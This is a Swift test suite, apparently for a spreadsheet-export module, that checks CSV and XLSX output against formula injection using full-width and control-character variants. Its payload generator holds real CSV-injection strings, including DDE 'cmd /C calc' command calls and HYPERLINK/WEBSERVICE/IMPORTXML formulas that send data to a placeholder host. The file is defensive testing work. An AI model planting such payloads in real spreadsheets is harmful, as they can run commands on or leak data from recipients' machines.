// SPDX-License-Identifier: Apache-2.0
import Foundation
import Support
import Testing

@testable import Press

@Suite("人に渡す表の字", .measure("R-56"))
struct TableTests {
    @Test(
        "表計算が式と読む始まりは、全角でも打ち消す",
        arguments: [
            "=1+1", "+1", "-1", "@x", "|x", "%0A=1", "＝1", "＋1", "－1", "＠x", " =1", "\u{FEFF}=1",
        ])
    func formulas(text: String) {
        #expect(SafeCSV.file([[.text(text)]]) == "\u{FEFF}\"'\(text)\"\r\n")
        #expect(FormulaGuard.original("'" + text) == text)
    }

    @Test("改行とタブは、欄の中でも新しい欄の始まりにならない", arguments: ["\t=1", "\r=1", "見本\r\n=1", "見本\u{2028}=1"])
    func controls(text: String) {
        let cell = SafeCSV.lines([[.text(text)]]).dropLast(2)
        #expect(!cell.unicodeScalars.contains(where: FormulaGuard.isControl))
        #expect(!cell.dropFirst().hasPrefix("="))
    }

    @Test("引用符は二つに、数は囲まずに書く。数を名乗る式は字として書く")
    func quotes() {
        #expect(
            SafeCSV.file([[.text("見本\"市\",町"), .number("-5"), .number("-5+cmd"), .number("=1")]])
                == "\u{FEFF}\"見本\"\"市\"\",町\",-5,\"'-5+cmd\",\"'=1\"\r\n")
        #expect(TableCell.number("12.5").isNumber && !TableCell.number("1.").isNumber)
        #expect(!TableCell.number("9000000000000017").isNumber)
    }

    @Test("自分が付けた印だけを、取り込むときに外す")
    func original() {
        #expect(FormulaGuard.original("'見本") == "'見本")
        #expect(FormulaGuard.original("=1") == "=1")
    }

    @Test("2,000の悪意ある字を入れても、CSVにもXLSXにも式の欄はない", .measure("R-56"))
    func payloads() throws {
        let payloads = Payloads.all(2_000, seed: 13)
        #expect(Set(payloads).count == 2_000)
        let rows: [[TableCell]] = payloads.map { [.text($0), .number($0)] }
        for line in SafeCSV.lines(rows).components(separatedBy: "\r\n").dropLast() {
            for cell in CSVCells.of(line) {
                // By a list of its own, not by the guard that wrote it.
                let begin = cell.first { $0 != " " }
                #expect(begin.map { !"=+-@＝＋－＠\t\r\n".contains($0) } ?? true, "\(cell)")
            }
        }
        let file = SafeWorkbook(sheet: "試験", mark: "C-1 & 試験", rows: rows).file()
        let sheet = try #require(StoredZip.entry("xl/worksheets/sheet1.xml", in: file))
        let text = String(decoding: sheet, as: UTF8.self)
        #expect(!text.contains("<f") && !text.contains("<hyperlink"))
        #expect(text.components(separatedBy: "<c r=").count == 4_001)
        // A well-formed document, whatever stands in the cells.
        #expect(XMLReading.isWellFormed(sheet))
        // For the run in a real spreadsheet (docs/soak.md).
        if let folder = ProcessInfo.processInfo.environment["HAGUKUMI_PAYLOADS"] {
            let place = URL(fileURLWithPath: folder)
            try Data(file).write(to: place.appendingPathComponent("payloads.xlsx"))
            try Data(SafeCSV.file(rows).utf8).write(
                to: place.appendingPathComponent("payloads.csv"))
        }
    }
}

/// Formulas, links and commands in the disguises that have been seen.
enum Payloads {
    static func all(_ count: Int, seed: UInt64) -> [String] {
        var lots = Seeded(seed)
        let starts = [
            "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u{FEFF}=",
            "\u{200B}=",
            "\"=", "';=", "\",=", "=\t", "|", "%0A-", "\u{00A0}=", "﹦", "−",
        ]
        let bodies = [
            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.invalid/?x=\"&A1,\"見本\")",
            "WEBSERVICE(\"http://example.invalid/\")",
            "IMPORTXML(\"http://example.invalid\",\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"__\")", "SUM(1,2)", "A1", "2-3", "@SUM(A1)",
            "'[x.ods]'#$A.A1",
            "R1C1", "<f>1</f>", "]]>&lt;", "\u{0000}1", "見本\r\n=2",
        ]
        var found: Set<String> = []
        while found.count < count {
            let start = starts[Int.random(in: 0..<starts.count, using: &lots)]
            let body = bodies[Int.random(in: 0..<bodies.count, using: &lots)]
            let tail = Int.random(in: 0..<1_000, using: &lots)
            found.insert("\(start)\(body)\(tail)")
        }
        return found.sorted()
    }
}

/// The cells of a line as a reader of quotes sees them.
enum CSVCells {
    static func of(_ line: String) -> [String] {
        var (cells, cell, isQuoted) = ([String](), "", false)
        for character in line.replacing("\"\"", with: "\u{1}") {
            switch character {
            case "\"": isQuoted.toggle()
            case "," where !isQuoted:
                cells.append(cell)
                cell = ""
            case "\u{1}": cell.append("\"")
            default: cell.append(character)
            }
        }
        return cells + [cell]
    }
}

extension StoredZip {
    /// The bytes of an entry, found by walking from heading to heading.
    static func entry(_ name: String, in file: [UInt8]) -> [UInt8]? {
        func number(_ at: Int, _ size: Int) -> Int {
            (0..<size).reduce(0) { $0 | Int(file[at + $1]) << (8 * $1) }
        }
        var place = 0
        while place + 30 < file.count, number(place, 4) == 0x0403_4B50 {
            let (size, length) = (number(place + 18, 4), number(place + 26, 2))
            let begin = place + 30 + length
            if String(decoding: file[(place + 30)..<begin], as: UTF8.self) == name {
                let content = Array(file[begin..<(begin + size)])
                return crc(content) == UInt32(number(place + 14, 4)) ? content : nil
            }
            place = begin + size
        }
        return nil
    }
}
